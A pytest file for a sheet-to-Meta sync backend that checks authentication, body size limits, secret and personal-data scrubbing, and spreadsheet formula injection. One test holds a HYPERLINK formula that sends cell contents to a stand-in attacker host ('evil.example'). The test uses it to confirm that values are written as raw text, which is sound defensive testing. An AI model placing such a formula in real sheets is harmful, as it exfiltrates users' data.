"""The backend is on the internet: who may trigger a pass, what a request may carry, and what
never leaves (issue 7 "Deliver" 4). Everything runs on loopback; ID tokens are signed locally
and their certificate is served by pytest-httpserver, the way Google's certs endpoint serves."""

from __future__ import annotations

import json
import logging
import sqlite3
import threading
import time
from collections.abc import Callable, Iterator
from datetime import datetime
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from flask import Flask, Response, request
from flask.testing import FlaskClient
from pytest_httpserver import HTTPServer

from sheet_bridge.local.server import BackgroundServer
from sheet_bridge.sync.run import SyncError
from sheet_bridge.web.app import create_app
from tests.conftest import WORLD_PIXEL, WORLD_SECRET, WORLD_SHEET, WORLD_TOKEN, World, lead_row
from tests.google_tokens import AUDIENCE, certificate_pem
from tests.google_tokens import id_token as google_id_token

MakeWorld = Callable[..., World]
KID = "local-test-key-1"


# ---- ID tokens signed locally ------------------------------------------------------------------


def id_token(key: rsa.RSAPrivateKey, **claims: Any) -> str:
    return google_id_token(key, KID, **claims)


# ---- a backend over a world with leads ---------------------------------------------------------


def ledger_state(world: World) -> dict[str, list[tuple[Any, ...]]]:
    """Everything the ledger holds, table by table."""
    with sqlite3.connect(world.config.ledger_location({})) as db:
        tables = [r[0] for r in db.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        return {t: sorted(db.execute(f"SELECT * FROM {t}").fetchall()) for t in tables}


@pytest.fixture
def guarded(
    make_world: MakeWorld, world_now: datetime, httpserver: HTTPServer, google_key: Any
) -> Iterator[tuple[World, FlaskClient]]:
    """Five leads due, a backend that accepts the shared secret or a Google ID token for
    AUDIENCE from example.com, Google's certificate served on loopback."""
    httpserver.expect_request("/certs").respond_with_data(
        json.dumps({KID: certificate_pem(google_key)}), content_type="application/json"
    )
    world = make_world(
        [lead_row(i, "SQL", now=world_now) for i in range(5)],
        server={
            "id_token_audience": AUDIENCE,
            "id_token_certs_url": httpserver.url_for("/certs"),
            "allowed_domain": "example.com",
        },
    )
    app = create_app(bridges=[world.bridge()], environ={"SHEET_BRIDGE_SECRET": WORLD_SECRET})
    yield world, app.test_client()


def calls(world: World) -> list[tuple[str, dict[str, Any]]]:
    return [
        ("/api/sync", {"spreadsheet_id": WORLD_SHEET}),
        (
            "/api/edits",
            {
                "spreadsheet_id": WORLD_SHEET,
                "tab": "Leads",
                "row": 2,
                "old_value": "MQL",
                "new_value": "SQL",
                "at": world.now.isoformat(),
            },
        ),
    ]


BAD_CREDENTIALS: dict[str, Callable[[Any, Any], str | None]] = {
    "none": lambda good, forger: None,
    "not-bearer": lambda good, forger: f"Basic {WORLD_SECRET}",
    "empty-bearer": lambda good, forger: "Bearer ",
    "wrong-secret": lambda good, forger: "Bearer sidebar-shared-secret-1f2e3e",
    "forged": lambda good, forger: "Bearer " + id_token(forger),
    "expired": lambda good, forger: (
        "Bearer " + id_token(good, iat=int(time.time()) - 7200, exp=int(time.time()) - 3600)
    ),
    "wrong-audience": lambda good, forger: (
        "Bearer " + id_token(good, aud="someone-else.apps.googleusercontent.com")
    ),
    "wrong-issuer": lambda good, forger: "Bearer " + id_token(good, iss="https://evil.example"),
    "unsigned": lambda good, forger: (
        "Bearer " + ".".join([*id_token(good).split(".")[:2], "c2lnbmF0dXJl"])
    ),
}


@pytest.mark.parametrize("how", list(BAD_CREDENTIALS))
def test_request_without_valid_credentials_is_401_and_nothing_is_done(
    guarded: tuple[World, FlaskClient], google_key: Any, forger_key: Any, how: str
) -> None:
    world, client = guarded
    header = BAD_CREDENTIALS[how](google_key, forger_key)
    before_ledger, before_sheet = ledger_state(world), world.rows()
    for path, body in calls(world):
        headers = {"Authorization": header} if header is not None else {}
        response = client.post(path, json=body, headers=headers)
        assert response.status_code == 401, (path, response.get_data(as_text=True))
        assert response.get_json()["error"]["code"] == "unauthorized"
    assert world.meta_stats()["requests"] == 0
    assert ledger_state(world) == before_ledger
    assert world.rows() == before_sheet


def test_valid_id_token_from_the_allowed_domain_runs_the_pass(
    guarded: tuple[World, FlaskClient], google_key: Any
) -> None:
    """The same setup lets the right caller in: the 401s above are not a broken backend."""
    world, client = guarded
    response = client.post(
        "/api/sync",
        json={"spreadsheet_id": WORLD_SHEET},
        headers={"Authorization": "Bearer " + id_token(google_key)},
    )
    assert response.status_code == 200, response.get_data(as_text=True)
    assert world.meta_stats()["events"] == 5 * 3


def test_oversized_body_is_413_and_nothing_is_done(
    guarded: tuple[World, FlaskClient],
) -> None:
    world, client = guarded
    before = ledger_state(world)
    body = json.dumps({"spreadsheet_id": WORLD_SHEET, "keys": ["k" * 100] * 20_000})
    assert len(body) > world.config.server.max_body_bytes
    for path, _ in calls(world):
        response = client.post(
            path,
            data=body,
            content_type="application/json",
            headers={"Authorization": f"Bearer {WORLD_SECRET}"},
        )
        assert response.status_code == 413, path
        assert response.get_json()["error"]["message"] == "the request body is too large"
    assert world.meta_stats()["requests"] == 0
    assert ledger_state(world) == before


# ---- what never leaves -------------------------------------------------------------------------


def leaky_meta(httpserver: HTTPServer, message: str) -> str:
    """A Graph endpoint that refuses every event and echoes `message` back (as Meta's
    error texts may echo what was sent). Returns its base URL."""
    httpserver.expect_request(f"/v25.0/{WORLD_PIXEL}/events", method="POST").respond_with_json(
        {
            "error": {
                "message": f"Invalid parameter {message}",
                "type": "OAuthException",
                "code": 100,
                "error_subcode": 2804006,
                "error_user_title": message,
                "error_user_msg": message,
                "fbtrace_id": "AtraceLeak",
            }
        },
        status=400,
    )
    return httpserver.url_for("/").rstrip("/")


def test_meta_token_echoed_by_meta_never_reaches_sheet_ledger_logs_or_responses(
    make_world: MakeWorld,
    world_now: datetime,
    httpserver: HTTPServer,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    graph = leaky_meta(httpserver, f"access_token={WORLD_TOKEN} is not allowed here")
    world = make_world(
        [lead_row(i, "New", now=world_now) for i in range(3)], meta={"graph_url": graph}
    )
    app = create_app(bridges=[world.bridge()], environ={"SHEET_BRIDGE_SECRET": WORLD_SECRET})
    response = app.test_client().post(
        "/api/sync",
        json={"spreadsheet_id": WORLD_SHEET},
        headers={"Authorization": f"Bearer {WORLD_SECRET}"},
    )
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert "[token]" in body  # the echo was there, scrubbed
    assert WORLD_TOKEN not in body
    assert WORLD_TOKEN not in json.dumps(world.rows())
    assert WORLD_TOKEN not in caplog.text
    for path in world.tmp.rglob("*"):
        if path.is_file():
            assert WORLD_TOKEN.encode() not in path.read_bytes(), path
    assert WORLD_TOKEN not in repr(world.bridge().capi)


def test_meta_token_is_not_in_the_error_of_a_pass_that_cannot_run(
    make_world: MakeWorld, world_now: datetime
) -> None:
    world = make_world([lead_row(0, "New", now=world_now)])
    world.sheets_fault(403, 1)
    with pytest.raises(SyncError) as caught:
        world.bridge().sync()
    assert WORLD_TOKEN not in str(caught.value) and WORLD_TOKEN not in repr(caught.value)


class RecordingProxy:
    """Forwards Sheets API calls to the emulator and keeps each write's query and body, so a
    test sees the valueInputOption Google would get (the emulator never evaluates formulas,
    so RAW and USER_ENTERED look alike in its data)."""

    def __init__(self) -> None:
        self.upstream = ""
        self.writes: list[tuple[str, dict[str, str], Any]] = []
        self.app = Flask(__name__)
        self.lock = threading.Lock()

        @self.app.route("/<path:path>", methods=["GET", "POST", "PUT"])
        def forward(path: str) -> Response:
            body = request.get_data()
            if request.method != "GET":
                with self.lock:
                    parsed = json.loads(body) if body else None
                    self.writes.append((path, dict(request.args), parsed))
            answer = httpx.request(
                request.method,
                f"{self.upstream}/{path}",
                params=list(request.args.items(multi=True)),
                content=body,
                headers={"Content-Type": request.content_type or "application/json"},
                timeout=30,
            )
            return Response(answer.content, answer.status_code, content_type="application/json")


def test_meta_message_beginning_with_equals_lands_in_the_sheet_as_text(
    make_world: MakeWorld, world_now: datetime, httpserver: HTTPServer
) -> None:
    formula = '=HYPERLINK("http://evil.example/steal?"&A2,"Click to fix")'
    graph = leaky_meta(httpserver, formula)
    proxy = RecordingProxy()
    with BackgroundServer(proxy.app) as server:
        world = make_world(
            [lead_row(0, "New", now=world_now)],
            meta={"graph_url": graph},
            sheets={"api_endpoint": server.url},
        )
        proxy.upstream = world.sheets_url
        world.bridge().sync()
    cells = [str(c) for c in world.rows()[1]]
    assert any(formula in c for c in cells), cells  # Meta's words, verbatim
    writes = [w for w in proxy.writes if "values" in w[0]]
    assert writes, "the pass wrote nothing"
    for path, args, body in writes:
        option = args.get("valueInputOption") or (body or {}).get("valueInputOption")
        assert option == "RAW", (path, option)
    written = json.dumps([w[2] for w in writes])
    assert json.dumps(formula)[1:-1] in written


def test_raw_emails_and_phones_never_appear_in_debug_logs_of_a_pass_with_problems(
    make_world: MakeWorld, world_now: datetime, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    personal = {
        "good_email": "asha.verma@example.com",
        "bad_email": "asha.verma(at)example",
        "good_phone": "+91 98765 43210",
        "bad_phone": "12-34",
        "other_phone": "(650) 555-1212",
    }
    rows = [
        lead_row(
            0, "SQL", now=world_now, email=personal["good_email"], phone=personal["bad_phone"]
        ),
        lead_row(
            1, "New", now=world_now, email=personal["bad_email"], phone=personal["good_phone"]
        ),
        lead_row(2, "Customer", now=world_now, email="", phone=personal["other_phone"]),
        lead_row(3, "MQL", now=world_now, email=personal["bad_email"], phone=""),
    ]
    world = make_world(rows)
    world.meta_fault("500", 1)
    result = world.bridge().sync()
    assert result.counts["sent"] >= 2 and result.counts["invalid"] >= 1
    logged = caplog.text
    assert logged  # the pass did log, at DEBUG
    for what, value in personal.items():
        digits = "".join(ch for ch in value if ch.isdigit())
        assert value not in logged, what
        if len(digits) >= 6:
            assert digits not in logged, what
    assert "asha" not in logged.lower()
    # The rows' own words may name the problem, masked, never the raw value.
    statuses = " ".join(str(c) for c in world.column("CAPI Status"))
    assert personal["bad_email"] not in statuses and personal["bad_phone"] not in statuses
